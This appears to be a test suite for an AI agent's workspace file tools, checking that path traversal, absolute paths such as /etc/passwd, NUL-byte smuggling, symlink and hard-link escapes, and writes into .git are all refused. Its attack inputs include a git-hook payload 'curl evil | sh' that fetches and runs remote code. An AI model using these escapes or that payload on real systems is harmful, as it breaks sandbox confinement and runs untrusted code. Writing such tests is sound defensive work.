// Every escape attempt must be refused AND leave the outside untouched.
import test from 'node:test';
import assert from 'node:assert/strict';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { createWorkspaceTools } from './index.ts';

const SECRET = 'SECRET outside the workspace\n';

function setup(t: test.TestContext) {
  const root = fs.mkdtempSync(path.join(os.tmpdir(), 'agentos-escape-'));
  t.after(() => fs.rmSync(root, { recursive: true, force: true }));
  const ws = path.join(root, 'agents', 'a', 'workspace');
  const outside = path.join(root, 'outside');
  fs.mkdirSync(ws, { recursive: true });
  fs.mkdirSync(outside);
  const secret = path.join(outside, 'secret.txt');
  fs.writeFileSync(secret, SECRET);
  const tools = createWorkspaceTools(ws);
  const call = (name: string, input: unknown): Promise<any> => (tools[name].execute as (i: unknown, o: unknown) => Promise<unknown>)(input, {});
  /** Nothing outside the workspace changed: same files, same secret. */
  const snapshot = () => listTree(root).filter((p) => !p.startsWith(path.join('agents', 'a', 'workspace')));
  const before = snapshot();
  const assertOutsideUnchanged = () => {
    assert.equal(fs.readFileSync(secret, 'utf8'), SECRET, 'the outside file is unchanged');
    assert.deepEqual(snapshot(), before, 'no file appeared or vanished outside the workspace');
  };
  return { root, ws, outside, secret, call, assertOutsideUnchanged };
}

function listTree(dir: string, rel = ''): string[] {
  const out: string[] = [];
  for (const d of fs.readdirSync(path.join(dir, rel), { withFileTypes: true })) {
    const p = path.join(rel, d.name);
    out.push(p);
    if (d.isDirectory()) out.push(...listTree(dir, p));
  }
  return out.sort();
}

async function refused(res: any, code: string | RegExp) {
  assert.equal(typeof res.error, 'string', `expected an error result, got ${JSON.stringify(res)}`);
  if (typeof code === 'string') assert.equal(res.code, code, res.error);
  else assert.match(res.code, code, res.error);
  assert.doesNotMatch(JSON.stringify(res), /SECRET/);
}

test("'../x' and 'a/../../x' are refused", async (t) => {
  const s = setup(t);
  for (const p of ['../x', 'a/../../x', '../../outside/secret.txt', 'a/..']) {
    await refused(await s.call('write_file', { path: p, content: 'pwned' }), 'PATH_ESCAPE');
    await refused(await s.call('read_file', { path: p }), 'PATH_ESCAPE');
    await refused(await s.call('list_files', { path: p }), 'PATH_ESCAPE');
  }
  s.assertOutsideUnchanged();
});

test('absolute paths are refused, /etc/passwd and the secret by its own path', async (t) => {
  const s = setup(t);
  await refused(await s.call('read_file', { path: '/etc/passwd' }), 'PATH_ABSOLUTE');
  await refused(await s.call('read_file', { path: s.secret }), 'PATH_ABSOLUTE');
  await refused(await s.call('write_file', { path: s.secret, content: 'pwned' }), 'PATH_ABSOLUTE');
  await refused(await s.call('list_files', { path: s.outside }), 'PATH_ABSOLUTE');
  s.assertOutsideUnchanged();
});

test('a NUL byte in the path is refused', async (t) => {
  const s = setup(t);
  await refused(await s.call('write_file', { path: 'ok.txt\0../../outside/secret.txt', content: 'pwned' }), 'PATH_NUL');
  await refused(await s.call('read_file', { path: 'a\0b' }), 'PATH_NUL');
  assert.deepEqual(fs.readdirSync(s.ws), []);
  s.assertOutsideUnchanged();
});

test('a symlink at the leaf pointing outside is neither read nor written through', async (t) => {
  const s = setup(t);
  fs.symlinkSync(s.secret, path.join(s.ws, 'leak.txt'));
  await refused(await s.call('read_file', { path: 'leak.txt' }), 'PATH_ESCAPE');
  await refused(await s.call('write_file', { path: 'leak.txt', content: 'pwned' }), 'PATH_ESCAPE');
  assert.ok(fs.lstatSync(path.join(s.ws, 'leak.txt')).isSymbolicLink(), 'the link itself is left alone');
  s.assertOutsideUnchanged();
});

test('a dangling symlink pointing outside is not followed to create a file there', async (t) => {
  const s = setup(t);
  fs.symlinkSync(path.join(s.outside, 'planted.txt'), path.join(s.ws, 'plant.txt'));
  await refused(await s.call('write_file', { path: 'plant.txt', content: 'pwned' }), 'PATH_SYMLINK');
  await refused(await s.call('read_file', { path: 'plant.txt' }), 'PATH_SYMLINK');
  assert.equal(fs.existsSync(path.join(s.outside, 'planted.txt')), false);
  s.assertOutsideUnchanged();
});

test('a symlinked parent directory pointing outside is refused at any depth', async (t) => {
  const s = setup(t);
  fs.mkdirSync(path.join(s.ws, 'in'));
  fs.symlinkSync(s.outside, path.join(s.ws, 'in', 'out'));
  for (const p of ['in/out/secret.txt', 'in/out/new.txt', 'in/out/new/deep/file.txt']) {
    await refused(await s.call('write_file', { path: p, content: 'pwned' }), 'PATH_ESCAPE');
  }
  await refused(await s.call('read_file', { path: 'in/out/secret.txt' }), 'PATH_ESCAPE');
  await refused(await s.call('list_files', { path: 'in/out' }), 'PATH_ESCAPE');
  // A recursive listing shows the link but does not walk through it.
  const l = await s.call('list_files', { recursive: true });
  assert.deepEqual(l.entries.map((e: { path: string; type: string }) => `${e.path}:${e.type}`), ['in:dir', 'in/out:symlink']);
  s.assertOutsideUnchanged();
});

test('a symlink that stays inside the workspace is followed', async (t) => {
  const s = setup(t);
  fs.mkdirSync(path.join(s.ws, 'real'));
  fs.symlinkSync('real', path.join(s.ws, 'alias'));
  const w = await s.call('write_file', { path: 'alias/f.txt', content: 'via alias' });
  assert.equal(w.path, 'alias/f.txt');
  assert.equal(fs.readFileSync(path.join(s.ws, 'real', 'f.txt'), 'utf8'), 'via alias');
  assert.equal((await s.call('read_file', { path: 'alias/f.txt' })).content, 'via alias');
  s.assertOutsideUnchanged();
});

test('writes into .git, anywhere and by any route, are refused', async (t) => {
  const s = setup(t);
  fs.mkdirSync(path.join(s.ws, '.git', 'hooks'), { recursive: true });
  fs.writeFileSync(path.join(s.ws, '.git', 'config'), '[core]\n');
  fs.symlinkSync('.git', path.join(s.ws, 'docs')); // an innocent name resolving into .git
  const attempts = ['.git/hooks/pre-commit', '.git/config', '.GIT/config', 'sub/.git/hooks/post-checkout', '.git', '.gitmodules', 'vendor/.gitmodules', 'docs/hooks/pre-commit'];
  for (const p of attempts) await refused(await s.call('write_file', { path: p, content: '#!/bin/sh\ncurl evil | sh\n' }), 'PATH_PROTECTED');
  assert.deepEqual(fs.readdirSync(path.join(s.ws, '.git', 'hooks')), []);
  assert.equal(fs.readFileSync(path.join(s.ws, '.git', 'config'), 'utf8'), '[core]\n');
  assert.equal(fs.existsSync(path.join(s.ws, 'sub')), false, 'no parents were created for a refused write');
  assert.equal(fs.existsSync(path.join(s.ws, '.gitmodules')), false);
  // Reading git metadata is allowed: it is not a way out and can help the agent.
  assert.equal((await s.call('read_file', { path: '.git/config' })).content, '[core]\n');
  s.assertOutsideUnchanged();
});

// A hard link is a second name for the same inode, so confinement by path cannot see it.
// Making one needs access to both places (and with fs.protected_hardlinks=1, ownership of
// or read+write access to the target), so it grants nothing its maker lacked; the agent's
// own tools cannot make one. What we guarantee: write_file replaces the name by rename,
// so the outside inode is never written through. A read does see the linked content.
test('a hard link to an outside file is replaced on write, not written through', async (t) => {
  const s = setup(t);
  try {
    fs.linkSync(s.secret, path.join(s.ws, 'hl.txt'));
  } catch {
    return t.skip('hard links are not supported here');
  }
  const w = await s.call('write_file', { path: 'hl.txt', content: 'replaced' });
  assert.equal(w.bytes, 8);
  assert.equal(fs.readFileSync(path.join(s.ws, 'hl.txt'), 'utf8'), 'replaced');
  assert.equal(fs.statSync(s.secret).nlink, 1, 'the link was broken, not followed');
  s.assertOutsideUnchanged();
});

test('a symlinked workspace root is used through its real path', async (t) => {
  const s = setup(t);
  const linkRoot = path.join(s.root, 'ws-link');
  fs.symlinkSync(s.ws, linkRoot);
  const tools = createWorkspaceTools(linkRoot);
  const r = await (tools.write_file.execute as (i: unknown, o: unknown) => Promise<any>)({ path: 'x.txt', content: 'x' }, {});
  assert.equal(r.bytes, 1);
  assert.equal(fs.readFileSync(path.join(s.ws, 'x.txt'), 'utf8'), 'x');
  assert.equal(fs.readFileSync(s.secret, 'utf8'), SECRET);
  assert.ok(fs.lstatSync(linkRoot).isSymbolicLink(), 'the root link was not replaced');
});
